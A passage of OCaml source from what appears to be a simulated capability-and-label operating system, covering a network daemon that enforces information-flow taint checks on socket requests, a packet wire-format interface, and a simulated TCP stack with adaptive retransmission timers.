  | W_close of int

type shared = {
  stack_cell : Stack.t option ref;
  socks : (int, Stack.conn) Hashtbl.t;
  workq : work Queue.t;
  mutable next_sock : int;
  gate_cell : centry option ref;
  notify_cell : centry option ref;  (** bumped by rx pump on every frame *)
  req_cell : centry option ref;  (** bumped by clients to wake the worker *)
}

type t = {
  shared : shared;
  dev : oid;
  dev_label : Label.t;
  container : oid;
}

let service_gate t =
  match !(t.shared.gate_cell) with
  | Some g -> g
  | None -> invalid_arg "Netd.service_gate: netd not initialized yet (run the kernel)"

let device t = t.dev
let device_label t = t.dev_label

let stack t =
  match !(t.shared.stack_cell) with
  | Some s -> s
  | None -> invalid_arg "Netd.stack: netd not initialized yet"

(* ---- futex helpers over a one-word segment ---- *)

let word_read ce =
  let s = Sys.segment_read ce ~len:8 () in
  let d = Codec.Dec.of_string s in
  Codec.Dec.i64 d

let word_bump ce =
  let v = word_read ce in
  let e = Codec.Enc.create () in
  Codec.Enc.i64 e (Int64.add v 1L);
  Sys.segment_write ce (Codec.Enc.to_string e);
  ignore (Sys.futex_wake ce ~off:0 ~count:max_int)

(* Wait until [pred ()] becomes true, sleeping on the notify futex in
   between. Spurious wakes are fine; we always re-check. *)
let wait_on ce pred =
  let rec loop () =
    if pred () then ()
    else begin
      let gen = word_read ce in
      if pred () then ()
      else begin
        Sys.futex_wait ce ~off:0 ~expected:gen;
        loop ()
      end
    end
  in
  loop ()

(* ---- request wire format (travels via the thread-local segment) ---- *)

type request =
  | R_connect of Addr.t
  | R_listen of Addr.port
  | R_accept of Addr.port
  | R_send of int * string
  | R_recv of int
  | R_close of int

type reply = Rp_ok | Rp_sock of int | Rp_data of string | Rp_eof | Rp_err of string

let encode_request r =
  let e = Codec.Enc.create () in
  (match r with
  | R_connect a ->
      Codec.Enc.u8 e 1;
      Codec.Enc.u32 e a.Addr.ip;
      Codec.Enc.u16 e a.Addr.port
  | R_listen p ->
      Codec.Enc.u8 e 2;
      Codec.Enc.u16 e p
  | R_accept p ->
      Codec.Enc.u8 e 3;
      Codec.Enc.u16 e p
  | R_send (s, data) ->
      Codec.Enc.u8 e 4;
      Codec.Enc.u32 e s;
      Codec.Enc.str e data
  | R_recv s ->
      Codec.Enc.u8 e 5;
      Codec.Enc.u32 e s
  | R_close s ->
      Codec.Enc.u8 e 6;
      Codec.Enc.u32 e s);
  Codec.Enc.to_string e

let decode_request s =
  let d = Codec.Dec.of_string s in
  match Codec.Dec.u8 d with
  | 1 ->
      let ip = Codec.Dec.u32 d in
      let port = Codec.Dec.u16 d in
      R_connect { Addr.ip; port }
  | 2 -> R_listen (Codec.Dec.u16 d)
  | 3 -> R_accept (Codec.Dec.u16 d)
  | 4 ->
      let s' = Codec.Dec.u32 d in
      let data = Codec.Dec.str d in
      R_send (s', data)
  | 5 -> R_recv (Codec.Dec.u32 d)
  | 6 -> R_close (Codec.Dec.u32 d)
  | _ -> failwith "netd: bad request"

let encode_reply r =
  let e = Codec.Enc.create () in
  (match r with
  | Rp_ok -> Codec.Enc.u8 e 0
  | Rp_sock s ->
      Codec.Enc.u8 e 1;
      Codec.Enc.u32 e s
  | Rp_data d ->
      Codec.Enc.u8 e 2;
      Codec.Enc.str e d
  | Rp_eof -> Codec.Enc.u8 e 3
  | Rp_err m ->
      Codec.Enc.u8 e 4;
      Codec.Enc.str e m);
  Codec.Enc.to_string e

let decode_reply s =
  let d = Codec.Dec.of_string s in
  match Codec.Dec.u8 d with
  | 0 -> Rp_ok
  | 1 -> Rp_sock (Codec.Dec.u32 d)
  | 2 -> Rp_data (Codec.Dec.str d)
  | 3 -> Rp_eof
  | 4 -> Rp_err (Codec.Dec.str d)
  | _ -> failwith "netd: bad reply"

(* ---- the service-gate entry (runs on the calling thread) ---- *)

let taint_ok ~dir self dev_label =
  match dir with
  | `Recv -> Label.can_observe ~thread:self ~obj:dev_label
  | `Send -> Label.can_flow ~src:(Label.lower_star self) ~dst:dev_label

let service_entry shared dev_label () =
  let notify = Option.get !(shared.notify_cell) in
  let req_seg = Option.get !(shared.req_cell) in
  let self = Sys.self_label () in
  let dispatch () =
    match decode_request (Sys.tls_read ()) with
    | R_connect dst ->
        if not (taint_ok ~dir:`Send self dev_label) then
          Rp_err "label: cannot send to this network"
        else begin
          let sock = shared.next_sock in
          shared.next_sock <- sock + 1;
          Queue.push (W_connect (dst, sock)) shared.workq;
          word_bump req_seg;
          (* wait for the worker to create the connection, then for the
             handshake to finish *)
          wait_on notify (fun () -> Hashtbl.mem shared.socks sock);
          let conn = Hashtbl.find shared.socks sock in
          wait_on notify (fun () ->
              match Stack.state conn with
              | Established | Closed | Close_wait | Fin_wait -> true
              | Syn_sent | Syn_received -> false);
          match Stack.state conn with
          | Established -> Rp_sock sock
          | _ ->
              (* the handshake gave up (retransmission exhaustion over
                 a dead link) or was refused; reap the socket and say
                 why so callers can retry at request level *)
              Hashtbl.remove shared.socks sock;
              Rp_err
                (match Stack.error conn with
                | Some reason -> "connect failed: " ^ reason
                | None -> "connect failed")
        end
    | R_listen port ->
        Queue.push (W_listen port) shared.workq;
        word_bump req_seg;
        Rp_ok
    | R_accept port ->
        if not (taint_ok ~dir:`Recv self dev_label) then
          Rp_err "label: must carry the network taint to receive"
        else begin
          let stack = Option.get !(shared.stack_cell) in
          let got = ref None in
          wait_on notify (fun () ->
              match Stack.accept stack ~port with
              | Some c ->
                  got := Some c;
                  true
              | None -> false);
          let conn = Option.get !got in
          let sock = shared.next_sock in
          shared.next_sock <- sock + 1;
          Hashtbl.replace shared.socks sock conn;
          Rp_sock sock
        end
    | R_send (sock, data) -> (
        if not (taint_ok ~dir:`Send self dev_label) then
          Rp_err "label: cannot send to this network"
        else
          match Hashtbl.find_opt shared.socks sock with
          | None -> Rp_err "bad socket"
          | Some conn ->
              if Stack.state conn = Closed then
                Rp_err
                  (match Stack.error conn with
                  | Some reason -> "send failed: " ^ reason
                  | None -> "send failed: connection closed")
              else begin
                Queue.push (W_send (sock, data)) shared.workq;
                word_bump req_seg;
                Rp_ok
              end)
    | R_recv sock -> (
        if not (taint_ok ~dir:`Recv self dev_label) then
          Rp_err "label: must carry the network taint to receive"
        else
          match Hashtbl.find_opt shared.socks sock with
          | None -> Rp_err "bad socket"
          | Some conn ->
              let data = ref "" in
              (* a connection that died (give-up or reset) is a
                 terminal condition too — without it a flapping link
                 would wedge this thread forever *)
              wait_on notify (fun () ->
                  data := Stack.recv conn;
                  String.length !data > 0
                  || Stack.recv_eof conn
                  || Stack.state conn = Closed);
              if String.length !data > 0 then Rp_data !data
              else if Stack.recv_eof conn then Rp_eof
              else
                Rp_err
                  (match Stack.error conn with
                  | Some reason -> "recv failed: " ^ reason
                  | None -> "recv failed: connection closed"))
    | R_close sock -> (
        match Hashtbl.find_opt shared.socks sock with
        | None -> Rp_err "bad socket"
        | Some _ ->
            Queue.push (W_close sock) shared.workq;
            word_bump req_seg;
            Rp_ok)
    | exception Histar_util.Codec.Truncated -> Rp_err "malformed request"
    | exception Failure m -> Rp_err m
  in
  (* Any label denial inside the dispatch (e.g. an untainted sender
     touching the tainted request segment) surfaces as a clean error
     reply rather than killing the borrowed thread. *)
  let reply =
    try dispatch () with Kernel_error e -> Rp_err (error_to_string e)
  in
  Sys.tls_write (encode_reply reply);
  Sys.gate_return ()

(* ---- netd process threads ---- *)

let worker_loop shared dev_ce req_seg notify () =
  let stack = Option.get !(shared.stack_cell) in
  ignore dev_ce;
  let process work =
    (match work with
    | W_connect (dst, sock) ->
        let conn = Stack.connect stack ~dst in
        Hashtbl.replace shared.socks sock conn
    | W_listen port -> Stack.listen stack ~port
    | W_send (sock, data) -> (
        match Hashtbl.find_opt shared.socks sock with
        | Some conn -> ( try Stack.send conn data with Invalid_argument _ -> ())
        | None -> ())
    | W_close sock -> (
        match Hashtbl.find_opt shared.socks sock with
        | Some conn ->
            Stack.close conn;
            Hashtbl.remove shared.socks sock
        | None -> ()));
    word_bump notify
  in
  let rec loop () =
    (match Queue.take_opt shared.workq with
    | Some w -> process w
    | None ->
        let gen = word_read req_seg in
        if Queue.is_empty shared.workq then
          Sys.futex_wait req_seg ~off:0 ~expected:gen);
    loop ()
  in
  loop ()

let rx_loop shared dev_ce notify () =
  let stack = Option.get !(shared.stack_cell) in
  let rec loop () =
    let frame = Sys.net_recv dev_ce in
    Stack.input stack frame;
    Stack.tick stack;
    word_bump notify;
    loop ()
  in
  loop ()

(* Retransmission pacemaker. The rx pump only ticks the stack when a
   frame arrives, so a link that drops everything (a flap window)
   would leave armed RTOs unserviced forever: the rx thread blocks in
   net_recv and nothing retransmits. This thread parks on the
   earliest RTO deadline; the scheduler's idle-clock advance fires it
   even when no traffic flows. It gates on [Stack.needs_timer] — not
   on open connections — so an established-but-idle socket does not
   keep the kernel spinning: with no armed RTO it blocks on the
   notify futex (bumped by the worker and rx pump whenever something
   might have armed one) and the system can go quiescent. *)
let timer_loop shared notify () =
  let stack = Option.get !(shared.stack_cell) in
  let rec loop () =
    (if Stack.needs_timer stack then begin
       let deadline =
         match Stack.next_timer_deadline stack with
         | Some d -> d
         | None -> Int64.add (Sys.clock_ns ()) 50_000_000L
       in
       Sys.sleep_until_ns deadline;
       Stack.tick stack;
       word_bump notify
     end
     else begin
       let gen = word_read notify in
       if not (Stack.needs_timer stack) then
         Sys.futex_wait notify ~off:0 ~expected:gen
     end);
    loop ()
  in
  loop ()

let start k ~hub ~container ~ip ~mac ?taint () =
  let dev_label =
    match taint with
    | Some i -> Label.of_list [ (i, Level.L2) ] Level.L1
    | None -> Label.make Level.L1
  in
  let dev =
    Kernel.attach_netdev k ~container ~label:dev_label ~mac
      ~transmit:(fun frame -> Hub.inject hub frame)
  in
  Hub.attach hub
    {
      Hub.ep_mac = mac;
      ep_ip = ip;
      ep_deliver = (fun frame -> Kernel.deliver_packet k dev frame);
    };
  let shared =
    {
      stack_cell = ref None;
      socks = Hashtbl.create 16;
      workq = Queue.create ();
      next_sock = 1;
      gate_cell = ref None;
      notify_cell = ref None;
      req_cell = ref None;
    }
  in
  let resolve ipaddr = Hub.resolve hub ipaddr in
  let dev_ce = centry container dev in
  (* init thread: build segments and the gate at {dev_label}, publish,
     taint itself to the device level, then become the worker. *)
  let init () =
    let stack =
      Stack.create ~mac ~ip
        ~send:(fun frame -> Sys.net_send dev_ce frame)
        ~resolve ~clock:(Kernel.clock k) ()
    in
    shared.stack_cell := Some stack;
    let seg_label = dev_label in
    let notify_oid =
      Sys.segment_create ~container ~label:seg_label ~quota:8704L ~len:8
        "netd notify"
    in
    let req_oid =
      Sys.segment_create ~container ~label:seg_label ~quota:8704L ~len:8
        "netd reqs"
    in
    let notify = centry container notify_oid in
    let req_seg = centry container req_oid in
    shared.notify_cell := Some notify;
    shared.req_cell := Some req_seg;
    let gate_oid =
      Sys.gate_create ~container ~label:(Label.make Level.L1)
        ~clearance:(Label.make Level.L2) ~quota:4096L ~name:"netd service"
        (service_entry shared dev_label)
    in
    shared.gate_cell := Some (centry container gate_oid);
    (* spawn the rx pump and the retransmission pacemaker, also at
       the device taint *)
    let _rx =
      Sys.thread_create ~container ~label:dev_label
        ~clearance:(Label.make Level.L2) ~quota:131_072L ~name:"netd-rx"
        (rx_loop shared dev_ce notify)
    in
    let _timer =
      Sys.thread_create ~container ~label:dev_label
        ~clearance:(Label.make Level.L2) ~quota:131_072L ~name:"netd-timer"
        (timer_loop shared notify)
    in
    (* become the worker, tainted to the device level *)
    Sys.self_set_label dev_label;
    worker_loop shared dev_ce req_seg notify ()
  in
  let _tid = Kernel.spawn k ~container ~name:"netd" init in
  { shared; dev; dev_label; container }

(* ---- client wrappers ---- *)

module Client = struct
  type sock = int

  exception Netd_error of string

  (* netd publishes its gate from its init thread; early callers spin. *)
  let rec await_gate t =
    match !(t.shared.gate_cell) with
    | Some g -> g
    | None ->
        Sys.yield ();
        await_gate t

  let call t ~return_container req =
    let gate = await_gate t in
    decode_reply (Sys.rpc_call ~gate ~return_container (encode_request req))

  let connect t ~return_container dst =
    match call t ~return_container (R_connect dst) with
    | Rp_sock s -> s
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")

  (* Request-level retry: only transport-level connect failures (the
     handshake gave up over a lossy/flapping link) are retried. Label
     denials are policy, not weather — they propagate immediately. *)
  let is_transient m =
    let p = "connect failed" in
    String.length m >= String.length p && String.sub m 0 (String.length p) = p

  let rec connect_retry ?(attempts = 3) t ~return_container dst =
    match call t ~return_container (R_connect dst) with
    | Rp_sock s -> s
    | Rp_err m when attempts > 1 && is_transient m ->
        connect_retry ~attempts:(attempts - 1) t ~return_container dst
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")

  let listen t ~return_container port =
    match call t ~return_container (R_listen port) with
    | Rp_ok -> ()
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")

  let accept t ~return_container port =
    match call t ~return_container (R_accept port) with
    | Rp_sock s -> s
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")

  let send t ~return_container sock data =
    match call t ~return_container (R_send (sock, data)) with
    | Rp_ok -> ()
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")

  let recv t ~return_container sock =
    match call t ~return_container (R_recv sock) with
    | Rp_data d -> Some d
    | Rp_eof -> None
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")

  let close t ~return_container sock =
    match call t ~return_container (R_close sock) with
    | Rp_ok -> ()
    | Rp_err m -> raise (Netd_error m)
    | _ -> raise (Netd_error "unexpected reply")
end
