(** Wire formats for the simulated network: an Ethernet-style frame
    carrying an IP-style packet carrying TCP or UDP. Everything is
    length-delimited binary via {!Histar_util.Codec}; malformed input
    yields [None] from the decoders (a real stack drops bad frames). *)

type tcp_flags = { syn : bool; ack : bool; fin : bool; rst : bool }

type tcp = {
  src_port : Addr.port;
  dst_port : Addr.port;
  seq : int;
  ack_no : int;
  flags : tcp_flags;
  window : int;
  payload : string;
}

type udp = { usrc_port : Addr.port; udst_port : Addr.port; upayload : string }
type proto = Tcp of tcp | Udp of udp

type ip_packet = { src_ip : Addr.ip; dst_ip : Addr.ip; proto : proto }

type frame = { src_mac : string; dst_mac : string; ip : ip_packet }

val no_flags : tcp_flags

val frame_to_bytes : frame -> string
(** Serializes the frame and appends an 8-byte FCS trailer (fnv64
    over the body), so single-bit wire corruption is detected at the
    receiving NIC. *)

val frame_of_bytes : string -> frame option
(** [None] on truncation, a malformed body, or an FCS mismatch. *)

val frame_len : frame -> int
(** Encoded length (including FCS), used for bandwidth accounting. *)

val pp_frame : Format.formatter -> frame -> unit
