module Sim_clock = Histar_util.Sim_clock
module Metrics = Histar_metrics.Metrics
open Packet

(* Transport counters, registry-visible next to the hub's wire
   counters (the per-stack ints remain for per-instance stats). *)
let m_segments_sent = Metrics.counter "net.segments_sent"
let m_segments_retransmitted = Metrics.counter "net.segments_retransmitted"
let m_rto_timeouts = Metrics.counter "net.rto_timeouts"
let m_rto_giveups = Metrics.counter "net.rto_giveups"
let m_fcs_drops = Metrics.counter "net.frames_fcs_dropped"

let mss = 1460
let window_bytes = 65_535

(* RFC 6298-style retransmission timing on the virtual clock. *)
let rto_initial_ns = 200_000_000L (* before the first RTT sample *)
let rto_min_ns = 50_000_000L
let rto_max_ns = 10_000_000_000L
let max_retries = 8 (* consecutive timeouts before giving up *)
let max_syn_retries = 5

type conn_state =
  | Syn_sent
  | Syn_received
  | Established
  | Fin_wait
  | Close_wait
  | Closed

type conn = {
  stack : t;
  local_port : Addr.port;
  remote : Addr.t;
  mutable cstate : conn_state;
  mutable snd_nxt : int;  (** next sequence number to send *)
  mutable snd_una : int;  (** oldest unacknowledged *)
  mutable rcv_nxt : int;
  txq : Buffer.t;  (** bytes not yet segmented *)
  mutable inflight : (int * string) list;  (** (seq, payload), oldest first *)
  rxq : Buffer.t;
  mutable fin_received : bool;
  mutable fin_sent : bool;
  mutable rto_deadline : int64;
  (* adaptive RTO state (RFC 6298): smoothed RTT / variance in ns;
     srtt = 0 means no sample yet *)
  mutable srtt_ns : int64;
  mutable rttvar_ns : int64;
  mutable cur_rto_ns : int64;
  mutable retries : int;  (** consecutive timeouts since last forward ack *)
  (* Karn's algorithm: time one span at a time, and only if it was
     never retransmitted. rtt_seq is the ack number that completes the
     timed span; -1 = nothing being timed. *)
  mutable rtt_seq : int;
  mutable rtt_sent_at : int64;
  mutable error : string option;
      (** terminal failure (e.g. retransmission give-up) *)
}

and t = {
  smac : string;
  sip : Addr.ip;
  send_frame : string -> unit;
  resolve : Addr.ip -> string option;
  clock : Sim_clock.t;
  conns : (int * Addr.ip * Addr.port, conn) Hashtbl.t;
      (** keyed by (local port, remote ip, remote port) *)
  listeners : (Addr.port, conn Queue.t) Hashtbl.t;
  udp_ports : (Addr.port, (Addr.t * string) Queue.t) Hashtbl.t;
  mutable next_port : int;
  mutable segments_sent : int;
  mutable segments_retransmitted : int;
}

let create ~mac ~ip ~send ~resolve ~clock () =
  {
    smac = mac;
    sip = ip;
    send_frame = send;
    resolve;
    clock;
    conns = Hashtbl.create 16;
    listeners = Hashtbl.create 8;
    udp_ports = Hashtbl.create 8;
    next_port = 32_768;
    segments_sent = 0;
    segments_retransmitted = 0;
  }

let mac t = t.smac
let ip t = t.sip
let segments_sent t = t.segments_sent
let segments_retransmitted t = t.segments_retransmitted

let conn_key c = (c.local_port, c.remote.Addr.ip, c.remote.Addr.port)

let emit_tcp t ~dst_ip ~tcp =
  match t.resolve dst_ip with
  | None -> () (* unreachable host: silently dropped, like a dead ARP *)
  | Some dst_mac ->
      t.segments_sent <- t.segments_sent + 1;
      Metrics.Counter.incr m_segments_sent;
      t.send_frame
        (frame_to_bytes
           {
             src_mac = t.smac;
             dst_mac;
             ip = { src_ip = t.sip; dst_ip; proto = Tcp tcp };
           })

let give_up c reason =
  c.error <- Some reason;
  c.cstate <- Closed;
  c.rto_deadline <- Int64.max_int;
  Metrics.Counter.incr m_rto_giveups;
  Hashtbl.remove c.stack.conns (conn_key c)

let send_seg c ?(payload = "") ?(flags = no_flags) ~seq () =
  (* A destination with no hub endpoint is a powered-off machine on
     the local segment: fail the connection synchronously (the ICMP
     host-unreachable a LAN would deliver) rather than burning a full
     retransmission-give-up sequence. A *lossy or flapping* link
     keeps its endpoint attached, so loss recovery still goes through
     the RTO path. *)
  if c.stack.resolve c.remote.Addr.ip = None && c.cstate <> Closed then
    give_up c "no route to host"
  else
    emit_tcp c.stack ~dst_ip:c.remote.Addr.ip
      ~tcp:
        {
          src_port = c.local_port;
          dst_port = c.remote.Addr.port;
          seq;
          ack_no = c.rcv_nxt;
          flags;
          window = window_bytes;
          payload;
        }

let send_ack c = send_seg c ~flags:{ no_flags with ack = true } ~seq:c.snd_nxt ()

let arm_rto c =
  c.rto_deadline <- Int64.add (Sim_clock.now_ns c.stack.clock) c.cur_rto_ns

(* Fold an RTT sample into the estimator and recompute the RTO.
   First sample: srtt = R, rttvar = R/2. After: rttvar = 3/4 rttvar +
   1/4 |srtt - R|; srtt = 7/8 srtt + 1/8 R; rto = srtt + 4 rttvar,
   clamped to [rto_min, rto_max]. *)
let update_rtt c r =
  if Int64.equal c.srtt_ns 0L then begin
    c.srtt_ns <- r;
    c.rttvar_ns <- Int64.div r 2L
  end
  else begin
    let diff = Int64.abs (Int64.sub c.srtt_ns r) in
    c.rttvar_ns <-
      Int64.add
        (Int64.div (Int64.mul 3L c.rttvar_ns) 4L)
        (Int64.div diff 4L);
    c.srtt_ns <-
      Int64.add (Int64.div (Int64.mul 7L c.srtt_ns) 8L) (Int64.div r 8L)
  end;
  let rto = Int64.add c.srtt_ns (Int64.mul 4L c.rttvar_ns) in
  c.cur_rto_ns <- Int64.max rto_min_ns (Int64.min rto_max_ns rto)

(* Begin timing the span that the next cumulative ack >= [upto]
   completes, unless a span is already being timed. *)
let maybe_time_span c ~upto =
  if c.rtt_seq < 0 then begin
    c.rtt_seq <- upto;
    c.rtt_sent_at <- Sim_clock.now_ns c.stack.clock
  end

let inflight_bytes c =
  List.fold_left (fun acc (_, p) -> acc + String.length p) 0 c.inflight

let bytes_in_flight = inflight_bytes

(* Segment pending bytes from the tx queue into the window. Fin_wait
   still drains: close() with queued data must deliver it all before
   the FIN goes out. *)
let pump c =
  match c.cstate with
  | Established | Close_wait | Fin_wait ->
      let progress = ref false in
      while
        Buffer.length c.txq > 0 && inflight_bytes c + mss <= window_bytes
      do
        let take = min mss (Buffer.length c.txq) in
        let payload = Buffer.sub c.txq 0 take in
        let rest = Buffer.sub c.txq take (Buffer.length c.txq - take) in
        Buffer.clear c.txq;
        Buffer.add_string c.txq rest;
        let seq = c.snd_nxt in
        c.snd_nxt <- c.snd_nxt + take;
        c.inflight <- c.inflight @ [ (seq, payload) ];
        maybe_time_span c ~upto:(seq + take);
        send_seg c ~payload ~flags:{ no_flags with ack = true } ~seq ();
        progress := true
      done;
      if !progress then arm_rto c
  | Syn_sent | Syn_received | Closed -> ()

let maybe_send_fin c =
  if
    (not c.fin_sent)
    && Buffer.length c.txq = 0
    && c.inflight = []
    && (c.cstate = Fin_wait || (c.cstate = Close_wait && c.fin_received))
  then begin
    c.fin_sent <- true;
    let seq = c.snd_nxt in
    c.snd_nxt <- c.snd_nxt + 1;
    send_seg c ~flags:{ no_flags with fin = true; ack = true } ~seq ();
    arm_rto c
  end

let mk_conn stack ~local_port ~remote ~cstate ~isn ~rcv_nxt =
  {
    stack;
    local_port;
    remote;
    cstate;
    snd_nxt = isn;
    snd_una = isn;
    rcv_nxt;
    txq = Buffer.create 256;
    inflight = [];
    rxq = Buffer.create 256;
    fin_received = false;
    fin_sent = false;
    rto_deadline = Int64.max_int;
    srtt_ns = 0L;
    rttvar_ns = 0L;
    cur_rto_ns = rto_initial_ns;
    retries = 0;
    rtt_seq = -1;
    rtt_sent_at = 0L;
    error = None;
  }

(* ----- public TCP API ----- *)

let listen t ~port =
  if not (Hashtbl.mem t.listeners port) then
    Hashtbl.replace t.listeners port (Queue.create ())

let unlisten t ~port = Hashtbl.remove t.listeners port

let accept t ~port =
  match Hashtbl.find_opt t.listeners port with
  | None -> None
  | Some q -> Queue.take_opt q

let fresh_port t =
  let p = t.next_port in
  t.next_port <- t.next_port + 1;
  p

let connect t ~dst =
  let local_port = fresh_port t in
  let isn = 1000 in
  let c = mk_conn t ~local_port ~remote:dst ~cstate:Syn_sent ~isn ~rcv_nxt:0 in
  Hashtbl.replace t.conns (conn_key c) c;
  send_seg c ~flags:{ no_flags with syn = true } ~seq:isn ();
  c.snd_nxt <- isn + 1;
  arm_rto c;
  c

let state c = c.cstate
let peer c = c.remote
let error c = c.error

let send c data =
  (match c.cstate with
  | Closed | Fin_wait -> invalid_arg "Stack.send: connection closing"
  | Syn_sent | Syn_received | Established | Close_wait -> ());
  Buffer.add_string c.txq data;
  pump c

let recv c =
  let data = Buffer.contents c.rxq in
  Buffer.clear c.rxq;
  data

let recv_eof c = c.fin_received && Buffer.length c.rxq = 0

let close c =
  match c.cstate with
  | Closed -> ()
  | Syn_sent | Syn_received ->
      c.cstate <- Closed;
      Hashtbl.remove c.stack.conns (conn_key c)
  | Established ->
      c.cstate <- Fin_wait;
      maybe_send_fin c
  | Close_wait ->
      maybe_send_fin c
  | Fin_wait -> ()

(* ----- input processing ----- *)

let handle_ack c ack_no =
  if ack_no > c.snd_una then begin
    (* forward progress: reset the consecutive-timeout budget, and
       take an RTT sample if the timed span completed (Karn: the span
       is abandoned on any timeout, so a sample here is clean) *)
    c.retries <- 0;
    if c.rtt_seq >= 0 && ack_no >= c.rtt_seq then begin
      update_rtt c (Int64.sub (Sim_clock.now_ns c.stack.clock) c.rtt_sent_at);
      c.rtt_seq <- -1
    end;
    c.snd_una <- ack_no;
    c.inflight <-
      List.filter (fun (seq, p) -> seq + String.length p > ack_no) c.inflight;
    if c.inflight = [] then c.rto_deadline <- Int64.max_int else arm_rto c;
    pump c;
    maybe_send_fin c;
    (* If both sides have finished, reap. *)
    if c.fin_sent && c.fin_received && c.inflight = [] && ack_no >= c.snd_nxt
    then begin
      c.cstate <- Closed;
      Hashtbl.remove c.stack.conns (conn_key c)
    end
  end

let handle_tcp t ~src_ip (seg : tcp) =
  let key = (seg.dst_port, src_ip, seg.src_port) in
  match Hashtbl.find_opt t.conns key with
  | Some c -> (
      if seg.flags.rst then begin
        c.cstate <- Closed;
        Hashtbl.remove t.conns key
      end
      else
        match c.cstate with
        | Syn_sent when seg.flags.syn && seg.flags.ack ->
            c.rcv_nxt <- seg.seq + 1;
            c.cstate <- Established;
            c.rto_deadline <- Int64.max_int;
            send_ack c;
            pump c
        | Syn_received when seg.flags.ack ->
            c.cstate <- Established;
            c.rto_deadline <- Int64.max_int;
            (match Hashtbl.find_opt t.listeners c.local_port with
            | Some q -> Queue.push c q
            | None -> ());
            handle_ack c seg.ack_no
        | Established | Fin_wait | Close_wait | Syn_sent | Syn_received -> (
            if seg.flags.ack then handle_ack c seg.ack_no;
            (* in-order data *)
            if String.length seg.payload > 0 then
              if seg.seq = c.rcv_nxt then begin
                Buffer.add_string c.rxq seg.payload;
                c.rcv_nxt <- c.rcv_nxt + String.length seg.payload;
                send_ack c
              end
              else send_ack c (* dup or out-of-order: re-ack *);
            if seg.flags.fin && seg.seq = c.rcv_nxt then begin
              c.rcv_nxt <- c.rcv_nxt + 1;
              c.fin_received <- true;
              (match c.cstate with
              | Established -> c.cstate <- Close_wait
              | Fin_wait | Close_wait | Syn_sent | Syn_received | Closed -> ());
              send_ack c;
              maybe_send_fin c;
              if c.fin_sent && c.inflight = [] && c.snd_una >= c.snd_nxt then begin
                c.cstate <- Closed;
                Hashtbl.remove t.conns (conn_key c)
              end
            end)
        | Closed -> ())
  | None ->
      if seg.flags.syn && not seg.flags.ack then (
        (* new connection attempt *)
        match Hashtbl.find_opt t.listeners seg.dst_port with
        | Some _q ->
            let remote = { Addr.ip = src_ip; port = seg.src_port } in
            let c =
              mk_conn t ~local_port:seg.dst_port ~remote ~cstate:Syn_received
                ~isn:2000 ~rcv_nxt:(seg.seq + 1)
            in
            Hashtbl.replace t.conns (conn_key c) c;
            send_seg c ~flags:{ no_flags with syn = true; ack = true } ~seq:2000
              ();
            c.snd_nxt <- 2001;
            c.snd_una <- 2000;
            arm_rto c
        | None ->
            (* closed port: RST *)
            emit_tcp t ~dst_ip:src_ip
              ~tcp:
                {
                  src_port = seg.dst_port;
                  dst_port = seg.src_port;
                  seq = 0;
                  ack_no = seg.seq + 1;
                  flags = { no_flags with rst = true; ack = true };
                  window = 0;
                  payload = "";
                })

let input t bytes =
  match frame_of_bytes bytes with
  | None ->
      (* truncated or failed the FCS: corrupted in flight, drop at the
         NIC and let retransmission recover *)
      Metrics.Counter.incr m_fcs_drops
  | Some f ->
      if f.ip.dst_ip = t.sip then (
        match f.ip.proto with
        | Tcp seg -> handle_tcp t ~src_ip:f.ip.src_ip seg
        | Udp u -> (
            match Hashtbl.find_opt t.udp_ports u.udst_port with
            | Some q ->
                Queue.push
                  ({ Addr.ip = f.ip.src_ip; port = u.usrc_port }, u.upayload)
                  q
            | None -> ()))

let count_retx c =
  c.stack.segments_retransmitted <- c.stack.segments_retransmitted + 1;
  Metrics.Counter.incr m_segments_retransmitted

let handle_timeout c =
  Metrics.Counter.incr m_rto_timeouts;
  c.retries <- c.retries + 1;
  (* Karn: the timed span was (about to be) retransmitted — its
     eventual ack must not feed the estimator. *)
  c.rtt_seq <- -1;
  let limit =
    match c.cstate with
    | Syn_sent | Syn_received -> max_syn_retries
    | Established | Fin_wait | Close_wait | Closed -> max_retries
  in
  if c.retries > limit then
    give_up c
      (Printf.sprintf "retransmission timeout (%d consecutive losses)"
         c.retries)
  else begin
    (* exponential backoff, then go-back-N on what is outstanding *)
    c.cur_rto_ns <- Int64.min rto_max_ns (Int64.mul 2L c.cur_rto_ns);
    (match c.cstate with
    | Syn_sent ->
        count_retx c;
        send_seg c ~flags:{ no_flags with syn = true } ~seq:c.snd_una ()
    | Syn_received ->
        count_retx c;
        send_seg c
          ~flags:{ no_flags with syn = true; ack = true }
          ~seq:c.snd_una ()
    | Established | Fin_wait | Close_wait ->
        List.iter
          (fun (seq, payload) ->
            count_retx c;
            send_seg c ~payload ~flags:{ no_flags with ack = true } ~seq ())
          c.inflight;
        if c.fin_sent && c.inflight = [] then begin
          count_retx c;
          send_seg c
            ~flags:{ no_flags with fin = true; ack = true }
            ~seq:(c.snd_nxt - 1) ()
        end
    | Closed -> ());
    arm_rto c
  end

let tick t =
  let now = Sim_clock.now_ns t.clock in
  (* Collect first: handling a timeout can re-enter this stack (a
     retransmitted frame can trigger a synchronous ack from the peer)
     and close/remove connections, which must not race the
     iteration. Sort for a deterministic processing order. *)
  let expired =
    Hashtbl.fold
      (fun _ c acc ->
        if Int64.compare now c.rto_deadline >= 0 then c :: acc else acc)
      t.conns []
    |> List.sort (fun a b -> compare (conn_key a) (conn_key b))
  in
  List.iter
    (fun c ->
      (* re-check: an earlier expiry's effects may have acked or
         closed this connection already *)
      if c.cstate <> Closed && Int64.compare now c.rto_deadline >= 0 then
        handle_timeout c)
    expired

(* ----- timer introspection (for blocking drivers like netd) ----- *)

let needs_timer t =
  Hashtbl.fold
    (fun _ c acc -> acc || c.rto_deadline <> Int64.max_int)
    t.conns false

let next_timer_deadline t =
  Hashtbl.fold
    (fun _ c acc ->
      if Int64.equal c.rto_deadline Int64.max_int then acc
      else
        match acc with
        | None -> Some c.rto_deadline
        | Some d -> Some (Int64.min d c.rto_deadline))
    t.conns None

let active_conns t = Hashtbl.length t.conns

(* ----- UDP ----- *)

let udp_bind t ~port =
